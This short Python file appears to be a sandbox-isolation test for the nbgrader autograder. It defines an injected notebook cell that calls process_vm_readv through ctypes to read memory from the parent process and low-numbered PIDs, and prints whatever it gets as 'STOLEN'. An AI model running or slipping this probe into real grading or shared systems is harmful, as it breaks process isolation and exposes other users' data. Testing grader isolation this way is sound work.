"""Reads the memory of the processes around it with process_vm_readv. Stock nbgrader: whatever is there."""

CELLS = {
    "extra first cell": """
import ctypes
import os


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)
mine = ctypes.create_string_buffer(64)
here = Piece(ctypes.addressof(mine), 64)
there = Piece(id(Piece), 64)
for process in {os.getppid(), *range(1, 60)} - {os.getpid()}:
    if libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        print("STOLEN", process, mine.raw)
print(os.strerror(ctypes.get_errno()))
"""
}
